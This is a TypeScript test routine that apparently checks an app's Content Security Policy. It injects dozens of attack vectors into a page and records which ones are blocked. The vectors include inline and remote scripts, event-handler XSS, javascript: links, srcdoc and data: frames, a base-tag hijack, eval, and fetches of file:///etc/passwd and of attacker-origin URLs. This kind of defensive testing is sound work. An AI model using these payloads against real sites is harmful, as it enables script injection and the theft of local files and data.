/**
 * Runs inside of a page of the app, as a script would that somebody got in there; answers what came to nothing.
 * Whatever gets through says so in `globalThis.pwned`, or is heard at `origin`.
 */
export async function pageAttacks(origin: string): Promise<Record<string, boolean>> {
  const outcomes: Record<string, boolean> = {};
  const world = globalThis as unknown as { pwned?: unknown };
  const settle = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 150));
  /** Puts it into the page, waits, and looks. */
  const insert = async (name: string, html: string): Promise<void> => {
    delete world.pwned;
    const place = document.createElement('div');
    place.innerHTML = html;
    // Scripts that came by innerHTML never run: they are made anew, as by an attacker who knows that.
    for (const script of place.querySelectorAll('script')) {
      const again = document.createElement('script');
      for (const { name: attribute, value } of script.attributes) {
        again.setAttribute(attribute, value);
      }
      again.textContent = script.textContent;
      script.replaceWith(again);
    }
    document.body.append(place);
    for (const clickable of place.querySelectorAll<HTMLElement>('[data-click]')) clickable.click();
    await settle();
    place.remove();
    outcomes[name] = world.pwned === undefined;
  };
  const tryIt = async (name: string, attack: () => unknown): Promise<void> => {
    delete world.pwned;
    let result: unknown;
    try {
      const never = new Promise((resolve) => setTimeout(resolve, 2_000));
      result = await Promise.race([attack(), never]);
    } catch {
      result = undefined;
    }
    await settle();
    outcomes[name] = result === undefined && world.pwned === undefined;
  };
  const own = 'globalThis.pwned = "inline"';
  await insert('inline script', `<script>${own}</script>`);
  await insert(
    'inline script with a guessed nonce',
    `<script nonce="__CSP_NONCE__">${own}</script>`,
  );
  await insert('inline handler', `<img src="x" onerror='${own}'>`);
  await insert('handler of an SVG', `<svg onload='${own}'></svg>`);
  await insert('javascript: link', `<a data-click href='javascript:${own}'>x</a>`);
  await insert('remote script', `<script src="${origin}/script.js"></script>`);
  await insert('remote module', `<script type="module" src="${origin}/module.js"></script>`);
  await insert('data: script', `<script src='data:text/javascript,${own}'></script>`);
  await insert('remote picture', `<img src="${origin}/picture.png">`);
  await insert('remote style sheet', `<link rel="stylesheet" href="${origin}/style.css">`);
  await insert('style element', `<style>@import "${origin}/imported.css";</style>`);
  await insert(
    'remote background',
    `<div style="background:url(${origin}/background.png)">x</div>`,
  );
  await insert('remote font', `<style>@font-face{font-family:x;src:url(${origin}/font)}</style>`);
  await insert('remote sound', `<audio src="${origin}/sound.ogg" autoplay></audio>`);
  await insert('remote film', `<video src="${origin}/film.mp4" poster="${origin}/poster"></video>`);
  await insert('remote frame', `<iframe src="${origin}/frame"></iframe>`);
  await insert('frame of its own', `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`);
  await insert(
    'data: frame',
    `<iframe src="data:text/html,<script>parent.pwned=1</script>"></iframe>`,
  );
  await insert('frame of the app', '<iframe src="app://alexia/index.html"></iframe>');
  await insert('object', `<object data="${origin}/object"></object>`);
  await insert('embed', `<embed src="${origin}/embedded">`);
  await insert('webview', `<webview src="${origin}/webview"></webview>`);
  await insert('preload', `<link rel="preload" as="image" href="${origin}/preloaded.png">`);
  await insert('prefetch', `<link rel="prefetch" href="${origin}/prefetched">`);
  await insert('preconnect', `<link rel="preconnect" href="${origin}">`);
  await insert('manifest', `<link rel="manifest" href="${origin}/manifest.json">`);
  await insert('form', `<form action="${origin}/form"><button data-click>x</button></form>`);
  await insert('base', `<base href="${origin}/"><img src="based.png">`);
  await insert('refresh', `<meta http-equiv="refresh" content="0;url=${origin}/refreshed">`);
  await insert('ping', `<a data-click ping="${origin}/ping" href="${origin}/pinged">x</a>`);
  // Not within the call of the driver, to which the policy does not apply.
  const later = (attack: () => unknown): Promise<unknown> =>
    new Promise((resolve, reject) => {
      setTimeout(() => {
        try {
          resolve(attack());
        } catch (error) {
          reject(error instanceof Error ? error : new Error('refused'));
        }
      });
    });
  await tryIt('eval', () => later(() => (0, eval)('1')));
  await tryIt('new Function', () =>
    later(() => (Reflect.construct(Function, ['return 1']) as () => number)()),
  );
  await tryIt('a string for a timer', () =>
    later(() => {
      (setTimeout as (code: string) => void)(own);
    }),
  );
  await tryIt('WebAssembly', () =>
    later(() => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
  );
  await tryIt('import of data:', () => import(/* @vite-ignore */ `data:text/javascript,${own}`));
  await tryIt('remote fetch', () => fetch(`${origin}/fetched`));
  await tryIt('fetch without CORS', () => fetch(`${origin}/opaque`, { mode: 'no-cors' }));
  await tryIt('fetch of a file', () => fetch('file:///etc/passwd'));
  await tryIt('fetch of the private protocol', () =>
    fetch('alexia-media://file/00000000-0000-4000-8000-000000000000/A'),
  );
  await tryIt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest();
    request.open('GET', `${origin}/xhr`, false);
    request.send();
    return request.responseText;
  });
  await tryIt('beacon', () => navigator.sendBeacon(`${origin}/beacon`, 'x') && undefined);
  const opened = (socket: WebSocket | EventSource): Promise<unknown> =>
    new Promise((resolve, reject) => {
      socket.addEventListener('open', () => resolve('open'));
      socket.addEventListener('error', () => reject(new Error('refused')));
    });
  await tryIt('WebSocket', () => opened(new WebSocket(origin.replace('http', 'ws'))));
  await tryIt('EventSource', () => opened(new EventSource(`${origin}/events`)));
  await tryIt('worker', () => {
    const blob = new Blob([own], { type: 'text/javascript' });
    const worker = new Worker(URL.createObjectURL(blob));
    return new Promise((_, reject) =>
      worker.addEventListener('error', () => reject(new Error('refused'))),
    );
  });
  await tryIt('service worker', () => navigator.serviceWorker.register('/assets/worker.js'));
  delete world.pwned;
  return outcomes;
}
